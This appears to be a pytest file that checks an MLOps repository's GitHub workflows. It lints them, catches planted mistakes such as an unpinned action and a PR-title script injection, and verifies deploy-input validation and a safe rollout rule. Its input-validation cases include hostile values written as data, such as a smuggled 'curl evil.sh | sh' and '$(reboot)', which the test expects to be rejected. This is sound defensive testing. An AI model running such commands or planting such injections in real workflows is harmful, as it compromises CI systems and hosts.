"""GitHub workflows: linted offline, planted mistakes caught, every make target they call exists."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from mlops.checks.workflows import make_targets, target_exists
from mlops.specs import ROOT

WORKFLOWS = ROOT / ".github" / "workflows"
# one xdist worker lints the planted mistakes once for every case (make test: --dist loadgroup)
pytestmark = pytest.mark.xdist_group("workflow-lint")


def lint(*paths: Path) -> subprocess.CompletedProcess:
    """make lint-workflows on `paths`: WORKFLOWS is a make list (split at blanks), so a file in
    the checkout is named relative to it, as the target's default does (a checkout path may hold
    blanks)."""
    named = [str(p.relative_to(ROOT)) if p.is_relative_to(ROOT) else str(p) for p in paths]
    return subprocess.run(["make", "lint-workflows", f"WORKFLOWS={' '.join(named)}"],
                          cwd=ROOT, capture_output=True, text=True, timeout=300)


@pytest.mark.proof
def test_repo_workflows_pass_every_linter():
    result = lint(*sorted(WORKFLOWS.glob("*.yml")))
    assert result.returncode == 0, result.stdout + result.stderr
    assert "No findings to report" in result.stdout + result.stderr


PLANTED = {
    "unpinned action": ("train.yml",
                        "azure/login@a65d910e8af852a8061c627c456678983e180302 # v2.2.0",
                        "azure/login@v2", "unpinned-uses"),
    "script injection": ("ci.yml", "      - name: Set up\n",
                         '      - name: Greet\n        run: echo "${{ github.event.pull_request'
                         '.title }}"\n      - name: Set up\n', "template-injection"),
    "missing OIDC permission": ("train.yml", "      id-token: write # OpenID Connect login to "
                                "Azure: no stored credentials\n", "", "without `id-token: write`"),
    "no permissions block": ("ci.yml", "permissions:\n  contents: read\n\n", "",
                             "excessive-permissions"),
    "unknown make target": ("ci.yml", "run: make validate", "run: make validate-all",
                            "runs `make validate-all`"),
    "invalid YAML": ("train.yml", "        run: make setup validate",
                     "        run: make: setup validate", "not valid YAML"),
}


@pytest.fixture(scope="module")
def planted(tmp_path_factory) -> tuple[dict[str, Path], str]:
    """Each planted mistake in a copy of its workflow of its own (a file that is not valid YAML
    hides its other findings), all linted by one make lint-workflows: each case's file and
    what the linters printed."""
    folder = tmp_path_factory.mktemp("planted")
    files = {}
    for number, (case, (name, old, new, _)) in enumerate(PLANTED.items()):
        text = (WORKFLOWS / name).read_text()
        assert old in text, case
        (folder / str(number)).mkdir()
        files[case] = folder / str(number) / name
        files[case].write_text(text.replace(old, new, 1))
    result = lint(*files.values())
    assert result.returncode != 0
    return files, result.stdout + result.stderr


def findings_for(output: str, path: Path) -> str:
    """The lines of the linters' output about `path`: those naming it, with the two lines
    before each (zizmor names the rule a line or two above the file)."""
    lines = output.splitlines()
    named = [n for n, line in enumerate(lines) if str(path) in line]
    return "\n".join(line for n in named for line in lines[max(0, n - 2):n + 1])


@pytest.mark.proof
@pytest.mark.parametrize("case", PLANTED, ids=list(PLANTED))
def test_planted_mistake_fails_the_lint(case, planted):
    files, output = planted
    expected = PLANTED[case][3]
    assert expected in findings_for(output, files[case]), output


@pytest.mark.proof
def test_every_make_target_a_workflow_calls_exists():
    called = set()
    for path in WORKFLOWS.glob("*.yml"):
        called |= make_targets(yaml.safe_load(path.read_text()))
    assert {"setup", "lint", "validate", "test", "register", "deploy-green", "invoke-green",
            "shift", "rollback", "delete-deployment", "endpoint", "slots"} <= called
    missing = [t for t in called if not target_exists(t)]
    assert not missing


@pytest.mark.proof
@pytest.mark.parametrize(("model", "steps", "ok"), [
    ("azureml:fowl-classifier@latest", "10 50 100", True),
    ("azureml:fowl-classifier:3", "100", True),
    ("azureml:x@latest; curl evil.sh | sh", "100", False),
    ("fowl-classifier", "100", False),
    ("azureml:fowl-classifier@latest", "10 $(reboot)", False),
    ("azureml:fowl-classifier@latest", "150", False),
    ("azureml:fowl-classifier@latest", "", False),  # would delete the live deployment at once
    ("azureml:fowl-classifier@latest", "0", False),
    ("azureml:fowl-classifier@latest", "10 50", False),  # stops short of 100
    ("azureml:fowl-classifier@latest", "50 10 100", False),
])
def test_deploy_inputs_are_checked_before_use(model, steps, ok):
    result = subprocess.run(["bash", "scripts/check_deploy_inputs.sh", model, steps], cwd=ROOT,
                            capture_output=True, text=True)
    assert (result.returncode == 0) is ok


AZ = ROOT / "tests" / "fixtures" / "az"


@pytest.mark.proof
@pytest.mark.parametrize(("recorded", "code", "reason"), [
    ("endpoint-promoted.json", 0, "blue is idle"),
    ("endpoint-mid-rollout.json", 1, "blue still gets traffic"),
    ("endpoint-promoted-still-mirrored.json", 1, "blue still gets traffic"),
    ("endpoint-updating.json", 1, "is Updating"),
])
def test_the_live_deployment_is_deleted_only_when_the_endpoint_reports_it_idle(recorded, code,
                                                                               reason):
    """Recorded `az ml online-endpoint show -o json` output, fed to the workflow's script."""
    result = subprocess.run([sys.executable, "scripts/rollout.py", "idle", "--live", "blue",
                             "--candidate", "green"], cwd=ROOT, capture_output=True, text=True,
                            input=(AZ / recorded).read_text())
    assert result.returncode == code and reason in result.stderr


@pytest.mark.proof
def test_unreadable_endpoint_json_is_not_taken_as_idle():
    result = subprocess.run([sys.executable, "scripts/rollout.py", "idle", "--live", "blue",
                             "--candidate", "green"], cwd=ROOT, capture_output=True, text=True,
                            input="ERROR: (ResourceNotFound)")
    assert result.returncode == 2
